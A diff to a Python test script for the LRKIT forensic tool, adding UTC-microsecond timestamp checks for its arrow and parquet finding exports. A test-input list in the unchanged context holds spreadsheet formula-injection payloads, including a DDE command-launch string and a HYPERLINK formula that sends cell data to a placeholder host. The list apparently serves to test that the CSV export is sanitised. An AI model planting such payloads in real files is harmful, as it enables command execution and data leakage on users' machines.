@@ -6,6 +6,7 @@ needs pyarrow and duckdb. LRKIT is the command, CASE a case or folder.
 """
 
 import csv
+import datetime
 import io
 import json
 import re
@@ -22,6 +23,7 @@ FORMATS = ["ndjson", "csv", "arrow", "parquet", "ecs", "timesketch"]
 NUMBERS = ["document", "exit_code", "span_start", "span_end", "text_offset", "line", "size", "size_min", "size_max", "command_index", "pid", "parent_pid"]
 TEXTS = ["source", "sha256", "script_name", "field", "kind", "value", "normalized", "rule", "confidence", "size_text", "size_join", "hash_md5", "hash_sha1", "hash_sha256",
          "hash_sha512", "hash_join", "platform", "context", "machine", "machine_id", "action_id", "started", "ended", "path", "owner", "signature"]
+TIMES = ["started", "ended"]
 STACKING = Path(__file__).parent.parent.parent / "docs" / "STACKING.md"
 
 failures = []
@@ -42,6 +44,15 @@ def flat(f):
     return row
 
 
+def micros(rfc3339):
+    """Microseconds since 1970: no reader of a table has more."""
+    if not rfc3339:
+        return None
+    whole, _, rest = rfc3339.removesuffix("Z").partition(".")
+    seconds = datetime.datetime.fromisoformat(whole + "+00:00").timestamp()
+    return int(seconds) * 1_000_000 + int(rest[:6].ljust(6, "0"))
+
+
 def same(name, want, got):
     check(len(want) == len(got), f"{name}: {len(got)} findings, want {len(want)}")
     for i, (a, b) in enumerate(zip(want, got)):
@@ -49,6 +60,14 @@ def same(name, want, got):
             if (a[column] if a[column] != "" else None) != (b[column] if b[column] != "" else None):
                 check(False, f"{name}: finding {i}, {column}: {b[column]!r}, want {a[column]!r}")
                 return
+
+
+def untimed(table):
+    """A table with its times as numbers."""
+    for column in TIMES:
+        i = table.schema.names.index(column)
+        table = table.set_column(i, column, table.column(i).cast(pa.int64()))
+    return table
 
 
 STARTS = ["=1+1", "+1", "-1", "@A1", "\uff1dA1", "\uff0b1", "\uff0d1", "\uff20A1", "\ufe66A1", "\u22121", "=cmd|' /C calc'!A0", '=HYPERLINK("http://x/?"&A1,"y")', "'x", "x"]
@@ -103,12 +122,16 @@ def main(lrkit, case):
 
     with pa.ipc.open_stream(str(out / "arrow")) as stream:
         table = stream.read_all()
-    same("arrow", want, table.to_pylist())
+    check(table.schema.metadata[b"lrkit.schema"] == b"lrkit.finding/1", f"arrow: {table.schema.metadata}")
+    check(all(f.metadata[b"description"] for f in table.schema), "arrow: a field without a description")
+    check(pa.types.is_timestamp(table.schema.field("started").type) and table.schema.field("started").type.tz == "UTC", "arrow: started is no time in UTC")
+    timed = [row | {column: micros(row[column]) for column in TIMES} for row in want]
+    same("arrow", timed, untimed(table).to_pylist())
     db = duckdb.connect()
     db.execute(f"create view findings as select * from read_parquet('{out / 'findings.parquet'}')")
-    cursor = db.execute("select * from findings")
+    cursor = db.execute(f"select * replace ({', '.join(f'epoch_us({column}) as {column}' for column in TIMES)}) from findings")
     names = [d[0] for d in cursor.description]
-    same("parquet", want, [dict(zip(names, row)) for row in cursor.fetchall()])
+    same("parquet", timed, [dict(zip(names, row)) for row in cursor.fetchall()])
     check(names == table.schema.names, "arrow and parquet have other columns")
 
     with open(out / "csv", newline="", encoding="utf-8") as file:
